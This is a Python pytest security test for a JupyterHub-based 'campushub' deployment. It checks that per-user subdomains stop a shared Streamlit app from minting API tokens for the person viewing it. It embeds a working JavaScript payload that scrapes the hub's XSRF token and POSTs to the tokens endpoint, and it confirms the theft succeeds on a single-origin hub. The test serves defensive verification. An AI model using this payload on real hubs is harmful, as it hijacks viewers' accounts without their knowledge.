"""Attack finding 1 closed the way JupyterHub intends: with hub.subdomain_host
each person's servers have their own origin (alice.hub.localhost:PORT, which
Chromium resolves to 127.0.0.1; the proxy routes by host). alice's app runs
the attacker's JavaScript of the finding (/tmp/chub/attack-apps: fetch the
hub's home page for its XSRF token, then POST /hub/api/users/<viewer>/tokens)
in bob's browser. bob, shared the app, logs in as usual and sees it working,
and the script gets no token of his: the hub's login cookie is not sent to
alice's origin and the hub's answers are not readable from there. The same
attack on a hub that opted in to apps.share_on_hub_origin gets bob's token
(the control: what the opt-in risks, and that this test sees a theft)."""

from __future__ import annotations

import json
import os
import pwd
import socket
import time

import pytest
import requests

from campushub.deploy.local.spawner.unix_users import unix_name

from ..conftest import make_user
from ..harness import TEST_PREFIX, Browserless, Hub, running, wait_for

pytestmark = pytest.mark.browser
PREFIX = "chs" + TEST_PREFIX[3:]
PAGE = "/hub/campushub/apps"
APP = "app-evil"
EVIL_APP = r"""
import streamlit as st
import streamlit.components.v1 as components
st.title("Innocent dashboard")
components.html('''<div id=out>wait</div><script>
async function steal(base) { try {
  const home = await (await fetch(base + '/hub/home', {credentials: 'include'})).text();
  const x = (home.match(/xsrf_token: "([^"]+)"/) || [])[1] || '';
  const me = await fetch(base + '/hub/api/user', {credentials: 'include', headers: {'X-XSRFToken': x}});
  const r = await fetch(base + '/hub/api/users/VIEWER/tokens', {method: 'POST', credentials: 'include',
      headers: {'X-XSRFToken': x, 'Content-Type': 'application/json'},
      body: JSON.stringify({note: 'stolen by app', expires_in: 3600})});
  const t = await r.json();
  return 'user:' + me.status + ' tokens:' + r.status + ' token:' + t.token;
} catch (e) { return 'ERR:' + e; } }
(async () => {
  // through the app's own origin (the proxy sends /hub/ there to the hub), then the hub's origin itself
  const here = await steal(''), hub = await steal('HUB_ORIGIN');
  document.getElementById('out').innerText = 'DONE|' + here + '|' + hub;
})();
</script>''', height=80)
"""


class SubdomainHub(Hub):
    @property
    def url(self) -> str:  # the hub's own host: its cookies are set for it
        return f"{self.scheme}://hub.localhost:{self.port}"


@pytest.fixture(scope="module")
def localhost_names():
    """*.localhost is the loopback (RFC 6761), as Chromium resolves it; this
    machine's resolver (files, dns) does not, so this process does it too."""
    real = socket.getaddrinfo

    def getaddrinfo(host, *args, **kwargs):
        if isinstance(host, str) and host.endswith(".localhost"):
            host = "127.0.0.1"
        return real(host, *args, **kwargs)

    socket.getaddrinfo = getaddrinfo
    yield
    socket.getaddrinfo = real


@pytest.fixture(scope="module", params=["subdomains", "one origin"])
def hub(request, tmp_path_factory, localhost_names):
    """subdomains: the fix. one origin: the same attack on a hub that opted in to
    apps.share_on_hub_origin, which must succeed (what the opt-in risks, and
    proof that this test sees a stolen token)."""
    if request.param == "subdomains":
        h = SubdomainHub.create(tmp_path_factory.mktemp("apps-subdomains"), {"spawner": {"user_prefix": PREFIX}})
        # subdomains of the proxy's own port: the address is known only once Hub.create chose it
        config = json.loads(h.config_file.read_text())
        config["hub"]["subdomain_host"] = f"http://hub.localhost:{h.port}"
        h.config_file.write_text(json.dumps(config, indent=1))
    else:
        h = Hub.create(tmp_path_factory.mktemp("apps-one-origin"),
                       {"spawner": {"user_prefix": PREFIX}, "apps": {"share_on_hub_origin": True}})
    h.subdomains = request.param == "subdomains"
    with running(h, PREFIX) as h:
        yield h


def test_an_app_on_its_owners_origin_works_for_its_viewer_and_gets_none_of_his_hub_login(hub, new_page):
    origin = hub.url
    admin = Browserless(hub, "admin", hub.admin_password)
    assert admin.login().status_code == 302
    alice, bob = make_user(hub, admin, "alice"), make_user(hub, admin, "bob")
    # the app's file in alice's home (her account exists once a server of hers started)
    alice_token = hub.user_token(alice.name)
    r = requests.post(f"{hub.url}/hub/api/users/{alice.name}/servers/{APP}", timeout=180,
                      headers={"Authorization": f"token {alice_token}"},
                      json={"campushub_app": {"kind": "streamlit", "path": "evil_app.py", "title": "Dashboard"}})
    if r.status_code < 400:  # no file yet: the start may be refused or fail, either way stop it
        wait_for(lambda: hub.api("DELETE", f"users/{alice.name}/servers/{APP}",
                                 json={"remove": True}).status_code in (204, 404), 60, "the probe start undone")
    account = pwd.getpwnam(unix_name(alice.name, PREFIX))
    path = os.path.join(account.pw_dir, "evil_app.py")
    with open(path, "w") as f:  # alice knows whom she shares it with
        f.write(EVIL_APP.replace("VIEWER", bob.name).replace("HUB_ORIGIN", origin))
    os.chown(path, account.pw_uid, account.pw_gid)

    r = requests.post(f"{hub.url}/hub/api/users/{alice.name}/servers/{APP}", timeout=180,
                      headers={"Authorization": f"token {alice_token}"},
                      json={"campushub_app": {"kind": "streamlit", "path": "evil_app.py", "title": "Dashboard"}})
    assert r.status_code in (201, 202), r.text
    wait_for(lambda: hub.server_ready(alice.name, APP), 240, "alice's app")
    # the page lets alice share it: this hub has subdomains
    xsrf = alice._xsrf(PAGE)
    r = alice.session.post(hub.url + PAGE, data={"_xsrf": xsrf, "action": "share", "app": "evil",
                                                 "share_kind": "user", "share_name": bob.name},
                           timeout=60, allow_redirects=False)
    assert r.status_code == 303, r.text[-500:]

    page = new_page()
    host = f"{alice.name}.hub.localhost" if hub.subdomains else "127.0.0.1"
    app_url = f"http://{host}:{hub.port}/user/{alice.name}/{APP}/"
    page.goto(app_url)  # not logged in: the hub's login page, on the hub's origin
    page.wait_for_url(f"{origin}/hub/login**")
    page.fill("#username_input", bob.name)
    page.fill("#password_input", bob.password)
    page.click("#login_submit")
    deadline = time.monotonic() + 90
    while "oauth2/authorize" not in page.url and not page.url.startswith(app_url):
        assert time.monotonic() < deadline, page.url
        page.wait_for_timeout(500)
    if "oauth2/authorize" in page.url:  # JupyterHub's own consent page, once
        page.click("input[type=submit], button[type=submit]")
    page.wait_for_url(app_url + "**")
    # the app works for bob, on alice's origin
    page.get_by_text("Innocent dashboard").wait_for(timeout=120_000)
    said = None
    deadline = time.monotonic() + 120
    while said is None:
        assert time.monotonic() < deadline, "the app's script never ran"
        for frame in page.frames:
            try:
                text = frame.evaluate("() => document.getElementById('out') ? "
                                      "document.getElementById('out').innerText : ''")
            except Exception:  # a frame navigating away
                continue
            if text and text != "wait":
                said = text
        page.wait_for_timeout(500)
    print("the app's script:", said)
    assert said.startswith("DONE|"), said
    notes = [t["note"] for t in hub.api("GET", f"users/{bob.name}/tokens").json()["api_tokens"]]
    if not hub.subdomains:  # the hub's origin: the app's script made itself a token of bob's
        assert "tokens:201" in said and "stolen by app" in notes, said
        return
    for attempt in said.split("|")[1:]:  # each: refused, or blocked by the browser (CORS)
        assert attempt.startswith("ERR:") or ("token:undefined" in attempt and "tokens:20" not in attempt), said
    assert "stolen by app" not in notes, notes  # and no token was made for bob by anyone
